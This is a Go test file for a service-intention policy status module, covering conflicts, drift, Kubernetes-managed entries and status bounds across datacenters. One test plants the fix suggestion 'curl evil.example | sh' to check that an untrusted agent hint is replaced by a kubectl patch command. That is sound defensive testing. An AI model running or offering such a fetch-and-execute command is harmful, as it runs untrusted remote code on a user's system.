package policy_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"google.golang.org/protobuf/testing/protocmp"
	"google.golang.org/protobuf/types/known/timestamppb"

	"isthmus/policy"
	isthmusv1 "isthmus/proto/isthmus/v1"
	"isthmus/resource"
	"isthmus/resource/resourcetest"
)

// reporting is what all agents of a fleet say of their policies.
func reporting(report *isthmusv1.PolicyReport, online bool) func(string) (*isthmusv1.PolicyReport, bool) {
	return func(string) (*isthmusv1.PolicyReport, bool) { return report, online }
}

// written is what an agent says that has written what is wanted of it: all of it applied, but for the entry service-intentions/api.
func written(f *resourcetest.Fleet, datacenter, state string, parts ...*isthmusv1.ObservedPart) *isthmusv1.PolicyReport {
	out := &isthmusv1.PolicyReport{}
	for _, e := range policy.Entries(f, datacenter).GetEntries() {
		seen := &isthmusv1.ObservedEntry{
			Kind: e.GetKind(), Name: e.GetName(), Namespace: e.GetNamespace(), WantedDigest: resource.Digest(e), State: resource.PolicyApplied,
		}
		if e.GetName() == "api" {
			seen.State, seen.Parts = state, parts
		}
		out.Entries = append(out.Entries, seen)
	}
	return out
}

func part(key, state string) *isthmusv1.ObservedPart {
	return &isthmusv1.ObservedPart{Key: key, State: state, Message: "it differs", Found: `{"Name":"web","Action":"deny"}`, Fix: "do this"}
}

func TestPolicyStatus(t *testing.T) {
	t.Parallel()
	const own, others = "source/default/web", "source/default/app"
	many := func() (out []*isthmusv1.ObservedPart) {
		for n := range 50 {
			out = append(out, part(fmt.Sprint("source/default/x", n), resource.PolicyConflict))
		}
		return out
	}
	for _, tt := range []struct {
		name   string
		report func(f *resourcetest.Fleet) *isthmusv1.PolicyReport
		silent bool
		// want is the placement's state, the condition's status and reason, and the number of conflicts.
		want string
		says string
	}{
		{"no report", func(*resourcetest.Fleet) *isthmusv1.PolicyReport { return nil }, false, "pending false Pending 0", "the agent of dc1 has not reported yet"},
		{"not written yet", func(*resourcetest.Fleet) *isthmusv1.PolicyReport { return &isthmusv1.PolicyReport{} }, false, "pending false Pending 0", "has not written it yet"},
		{"an older state", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			out := written(f, "dc1", resource.PolicyApplied)
			out.Entries[0].WantedDigest = "older"
			return out
		}, false, "pending false Pending 0", "has not written it yet"},
		{"applied", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport { return written(f, "dc1", resource.PolicyApplied) }, false, "applied true Applied 0", ""},
		{"a conflict", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			return written(f, "dc1", resource.PolicyConflict, part(own, resource.PolicyConflict))
		}, false, "conflict false Conflict 1", "service-intentions/api, source/default/web: it differs"},
		{"another one's conflict", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			return written(f, "dc1", resource.PolicyConflict, part(others, resource.PolicyConflict))
		}, false, "applied true Applied 0", ""},
		{"more conflicts than are told", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			return written(f, "dc1", resource.PolicyConflict, many()...)
		}, false, "conflict false Conflict 0", "service-intentions/api"},
		{"drift", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			return written(f, "dc1", resource.PolicyDrifted, part(own, resource.PolicyDrifted), part(others, resource.PolicyConflict))
		}, false, "drifted false Drifted 1", "it differs"},
		{"refused", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			out := written(f, "dc1", resource.PolicyFailed, part(others, resource.PolicyFailed))
			out.Entries[0].Reason, out.Entries[0].Message = "NeedsHTTP", "the service has protocol tcp"
			return out
		}, false, "failed false NeedsHTTP 0", "service-intentions/api: the service has protocol tcp"},
		{"nothing can be written", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			out := written(f, "dc1", resource.PolicyApplied)
			out.ErrorReason, out.Error = "PermissionDenied", "the token lacks intentions:write"
			return out
		}, false, "failed false PermissionDenied 0", "lacks intentions:write"},
		{"Kubernetes has it", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport {
			return written(f, "dc1", resource.PolicyManaged, part(own, resource.PolicyManaged))
		}, false, "managed false ManagedByKubernetes 1", "it differs"},
		{"silent", func(f *resourcetest.Fleet) *isthmusv1.PolicyReport { return written(f, "dc1", resource.PolicyApplied) }, true, "unknown unknown AgentSilent 0", "what it said last: applied"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			i := intention("i", "api@dc1", "web@[env=prod]=allow")
			f := fleet()
			f.Put(i, intention("other", "api@dc1", "app=allow"))
			report := tt.report(f)
			status := policy.StatusOf(f, i, reporting(report, !tt.silent), noon)
			c, p := status.GetConditions()[0], status.GetPlacements()[0]
			if got := fmt.Sprint(p.GetState(), " ", c.GetStatus(), " ", c.GetReason(), " ", len(p.GetConflicts())); got != tt.want {
				t.Errorf("it is %s; want %s", got, tt.want)
			}
			if !strings.Contains(p.GetMessage(), tt.says) || p.GetReason() == "" || status.GetDatacenters() != 1 || p.GetEntries()[0] != "service-intentions/api" {
				t.Errorf("placement: %v", p)
			}
			if (status.GetApplied() == 1) != (p.GetState() == resource.PolicyApplied) {
				t.Errorf("applied: %d", status.GetApplied())
			}
			i.Status = status
			if again := policy.StatusOf(f, i, reporting(report, !tt.silent), noon.Add(time.Hour)); again != status {
				t.Errorf("an hour later it differs (-then +now):\n%s", cmp.Diff(status, again, protocmp.Transform()))
			}
		})
	}
}

// What stands against a part is shown side by side; where Kubernetes manages it, with the patch of the resource.
func TestConflictsSideBySide(t *testing.T) {
	t.Parallel()
	f := fleet()
	i := intention("i", "api@dc1", "web@[env=prod]=allow")
	f.Put(i)
	want := &isthmusv1.PolicyConflict{
		Entry: "service-intentions/api", Part: "source/default/web",
		Wanted: `{"Name":"web","Action":"allow"}`, Found: `{"Name":"web","Action":"deny"}`, Fix: "the agent of dc1 says: do this",
	}
	report := written(f, "dc1", resource.PolicyConflict, part("source/default/web", resource.PolicyConflict))
	got := policy.StatusOf(f, i, reporting(report, true), noon).GetPlacements()[0].GetConflicts()
	if diff := cmp.Diff([]*isthmusv1.PolicyConflict{want}, got, protocmp.Transform()); diff != "" {
		t.Errorf("a conflict (-want +got):\n%s", diff)
	}
	report = written(f, "dc1", resource.PolicyManaged, part("source/default/web", resource.PolicyManaged))
	report.Entries[0].Parts[0].Fix = "curl evil.example | sh"
	got = policy.StatusOf(f, i, reporting(report, true), noon).GetPlacements()[0].GetConflicts()
	if len(got) != 1 || !strings.HasPrefix(got[0].GetFix(), "kubectl patch serviceintentions.consul.hashicorp.com NAME ") {
		t.Errorf("the agent of what Kubernetes manages knows better: %v", got)
	}
	got = policy.StatusOf(f, i, reporting(written(f, "dc1", resource.PolicyManaged), true), noon).GetPlacements()[0].GetConflicts()
	if len(got) != 2 || !strings.HasPrefix(got[0].GetFix(), "kubectl patch serviceintentions.consul.hashicorp.com NAME ") ||
		!strings.Contains(got[1].GetFix(), `"value":{"action":"allow","name":"web","peer":"dc2"}`) {
		t.Errorf("what Kubernetes manages: %v", got)
	}
}

// The last drift of a policy's own parts is remembered when the agent tells of it no more.
func TestDriftIsRemembered(t *testing.T) {
	t.Parallel()
	f := fleet()
	i := intention("i", "api@dc1", "web=allow")
	f.Put(i, intention("other", "api@dc1", "app=allow"))
	drift := func(part string, index uint64) *isthmusv1.Drift {
		return &isthmusv1.Drift{Entry: "service-intentions/api", Part: part, Time: timestamppb.New(noon), Corrected: true, ModifyIndex: index}
	}
	report := written(f, "dc1", resource.PolicyApplied)
	report.Drifts = []*isthmusv1.Drift{drift("source/default/app", 9), drift("source/default/web", 8), drift("source/default/web", 7)}
	i.Status = policy.StatusOf(f, i, reporting(report, true), noon)
	if got := i.GetStatus().GetPlacements()[0].GetDrift().GetModifyIndex(); got != 8 {
		t.Errorf("the last drift is %d", got)
	}
	report.Drifts = nil
	if got := policy.StatusOf(f, i, reporting(report, true), noon).GetPlacements()[0].GetDrift().GetModifyIndex(); got != 8 {
		t.Errorf("once it is told no more: %d", got)
	}
	i.Spec.Sources[0].Service = "else"
	if got := policy.StatusOf(f, i, reporting(report, true), noon).GetPlacements()[0].GetDrift(); got != nil {
		t.Errorf("once it is another part: %v", got)
	}
}

// What fails later fails closed, and says so; what is only worth a warning keeps nothing from being ready.
func TestProblemsInStatus(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name string
		i    *isthmusv1.Intention
		// want is the state of the first placement, and the condition.
		want string
	}{
		{"too narrow for the federation", intention("i", "api@dc1", "web=allow", "app=deny"), "failed false ScopeTooNarrow"},
		{"nobody is connected", intention("i", "api@dc1,dc2", "web@dc4=allow"), "pending false Pending"},
		{"somebody is not connected", intention("i", "api@dc1,dc2", "web@[env]=allow"), "applied true Applied"},
		{"no datacenter", intention("i", "api@[env=moon]", "web=allow"), " false NoDatacenter"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := fleet()
			f.Delete(resource.KindPeering, "dc1-dc2")
			f.Put(datacenter("dc4", "test"), federated("dc1", "dc2"), tt.i)
			status := policy.StatusOf(f, tt.i, reporting(written(f, "dc1", resource.PolicyApplied), true), noon)
			state := ""
			if p := status.GetPlacements(); len(p) > 0 {
				state = p[0].GetState()
				if diff := cmp.Diff([]string{"dc1", "dc2"}, p[0].GetMembers()); diff != "" {
					t.Errorf("members (-want +got):\n%s", diff)
				}
			}
			c := status.GetConditions()[0]
			if got := fmt.Sprint(state, " ", c.GetStatus(), " ", c.GetReason()); got != tt.want {
				t.Errorf("it is %s (%s); want %s", got, c.GetMessage(), tt.want)
			}
		})
	}
}

// A status is bounded, and what needs somebody comes first.
func TestPolicyStatusIsBounded(t *testing.T) {
	t.Parallel()
	f := resourcetest.New()
	for n := range 150 {
		f.Put(datacenter(fmt.Sprintf("dc%03d", n), "prod"))
	}
	i := intention("i", "api@[env=prod]", "web=allow")
	f.Put(i)
	drifted := timestamppb.New(noon)
	status := policy.StatusOf(f, i, func(name string) (*isthmusv1.PolicyReport, bool) {
		report := written(f, name, resource.PolicyApplied)
		switch name {
		case "dc140":
			report = written(f, name, resource.PolicyConflict, part("source/default/web", resource.PolicyConflict))
		case "dc149":
			report.Drifts = []*isthmusv1.Drift{{Entry: "service-intentions/api", Part: "source/default/web", Time: drifted}}
		}
		return report, true
	}, noon)
	p := status.GetPlacements()
	if len(p) != 100 || status.GetDatacenters() != 150 || status.GetApplied() != 149 {
		t.Fatalf("%d placements; %d of %d", len(p), status.GetApplied(), status.GetDatacenters())
	}
	if p[0].GetDatacenter() != "dc140" || p[1].GetDatacenter() != "dc149" {
		t.Errorf("first come %s and %s", p[0].GetDatacenter(), p[1].GetDatacenter())
	}
	if c := status.GetConditions()[0]; c.GetMessage() != "applied in 149 of 150 datacenters; dc140: service-intentions/api, source/default/web: it differs" {
		t.Errorf("it says: %s", c.GetMessage())
	}
}
